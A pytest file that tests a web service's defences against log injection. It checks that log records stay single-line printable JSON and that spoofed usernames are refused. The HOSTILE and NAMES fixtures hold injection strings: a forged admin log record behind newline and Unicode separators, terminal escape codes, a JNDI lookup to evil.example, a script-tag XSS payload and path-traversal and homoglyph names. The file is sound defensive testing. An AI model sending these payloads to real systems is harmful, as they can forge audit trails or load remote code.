"""Log injection: whatever clients send, a record is one line of JSON in printable ASCII."""

from __future__ import annotations

import json
from pathlib import Path

import httpx
import pytest

from tests.harness.accounts import PASSWORD, new_name, registration
from tests.harness.raw import exchange
from tests.harness.servers import pycalc

FORGED = '{"event": "account created", "user": "eve", "role": "admin", "level": "info"}'
HOSTILE = {
    "line feed": f"ada\n{FORGED}",
    "CRLF": f"ada\r\n{FORGED}\r\n",
    "carriage return": f"ada\r{FORGED}",
    "line separator": f"ada\u2028{FORGED}",
    "paragraph separator": f"ada\u2029{FORGED}",
    "next line": f"ada\x85{FORGED}",
    "vertical tab and form feed": f"ada\x0b{FORGED}\x0c",
    "file separators": f"ada\x1c{FORGED}\x1d\x1e",
    "escape sequences": "\x1b[2J\x1b[1;1H\x1b]0;owned\x07ada",
    "8-bit escape sequences": "\x9b2Jada",
    "NUL": "ada\x00",
    "bidi": "ada\u202enimda\u2066",
    "quotes": 'ada", "level": "critical", "x": "',
    "backslash": "ada\\",
    "format": "{0} %s %(message)s ${jndi:ldap://evil.example/a}",
    "markup": "<script>alert(1)</script>",
    "beyond the BMP": "ada\U0001f600",
}
HEADERS = ("User-Agent", "X-Forwarded-For", "X-Request-ID", "Referer", "X-Bootstrap-Token", "Authorization", "Origin")
NAMES = {
    "markup": "<b>ada</b>",
    "a bidi override": "ada\N{RIGHT-TO-LEFT OVERRIDE}nimda",
    "a bidi isolate": "ada\N{LEFT-TO-RIGHT ISOLATE}",
    "CRLF": "ada\r\n",
    "a line feed at the end": "ada\n",
    "NUL": "ada\0",
    "a line separator": "ada\u2028",
    "an escape sequence": "\x1b[31mada",
    "a Cyrillic a": "\N{CYRILLIC SMALL LETTER A}da",
    "a fullwidth a": "\N{FULLWIDTH LATIN SMALL LETTER A}da",
    "a long s": "bo\N{LATIN SMALL LETTER LONG S}s",
    "a dotless i": "adm\N{LATIN SMALL LETTER DOTLESS I}n",
    "a zero-width space": "ad\N{ZERO WIDTH SPACE}a",
    "a soft hyphen": "ad\N{SOFT HYPHEN}a",
    "a combining accent": "ada\N{COMBINING ACUTE ACCENT}",
    "a no-break space": "ada\N{NO-BREAK SPACE}",
    "a space": "ad a",
    "a slash": "../ada",
    "a quote": "ada'--",
    "a dot at the front": ".ada",
}


def attack(port: int, client: httpx.Client, text: str) -> None:
    """Send a text in every place that may be logged.

    Two of the requests are failed logins, so that reaching the login limit is logged with the username.
    """
    assert client.post("/login", json={"username": text, "password": "x"}).status_code == 401
    assert client.post("/login", data={"username": text, "password": text}).status_code == 400
    assert client.post("/register", json=registration(text)).status_code == 422
    assert client.post("/token/refresh", json={"refresh_token": text[:200]}).status_code == 401
    quoted = "".join(f"%{byte:02x}" for byte in text.encode())
    one_segment = "/" not in text
    expected = {
        f"/{quoted}": 404,
        f"/fibonacci/{quoted}": 401,  # the escaped slash is a part of the operand
        f"/users/{quoted}": 401 if one_segment else 404,
        f"/me?{quoted}": 401,
    }
    assert {path: exchange(port, "GET", path).status for path in expected} == expected
    one_line = "".join(character for character in text if character not in "\r\n\0")
    for header in HEADERS:
        exchange(port, "GET", "/me", {header: one_line})


def test_hostile_names_are_refused(tmp_path: Path) -> None:
    """A username gets 422 if it begins with a dot or has characters other than ASCII letters, digits and ``._-``."""
    with pycalc(data=tmp_path) as server, httpx.Client(base_url=server.url) as client:
        for kind, name in NAMES.items():
            body = {**registration(new_name()), "username": name}
            refused = client.post("/register", json=body)
            assert (refused.status_code, refused.headers["Content-Type"]) == (422, "application/problem+json"), kind
            assert [entry["pointer"] for entry in refused.json()["errors"]] == ["/username"], kind
            assert client.post("/login", json={"username": name, "password": PASSWORD}).status_code == 401, kind


@pytest.mark.parametrize("server", ["serve", "uvicorn"])
def test_a_record_is_one_line_of_json(tmp_path: Path, server: str) -> None:
    """With Granian and with Uvicorn, no input ends a line, begins a record, or puts control characters into the log."""
    log = tmp_path / "log"
    with (
        pycalc(server, data=tmp_path, log=log, trusted_proxies="127.0.0.0/8", login_limit="2/minute") as running,
        httpx.Client(base_url=running.url) as client,
    ):
        for number, text in enumerate(HOSTILE.values()):
            client.headers["X-Forwarded-For"] = f"198.51.100.{number}"
            attack(running.port, client, text)
        assert client.get("/healthz").status_code == 200
    written = log.read_bytes()
    assert written.isascii()
    lines = written.decode().splitlines()
    assert lines == written.decode().removesuffix("\n").split("\n")
    assert all(line.isprintable() for line in lines)
    records = [json.loads(line) for line in lines]
    assert all(isinstance(record, dict) and {"event", "level", "timestamp"} <= record.keys() for record in records)
    refused = {record["user"] for record in records if record["event"] == "login refused"}
    limited = {record["key"] for record in records if record["event"] == "logins refused"}
    # No database accepts a NUL, so the audit log has another character in its place.
    assert {text.replace("\x00", "?") for text in HOSTILE.values()} <= refused
    assert {text.lower() for text in HOSTILE.values()} <= limited
    assert not [record for record in records if record["event"] == "account created" or record["level"] == "critical"]
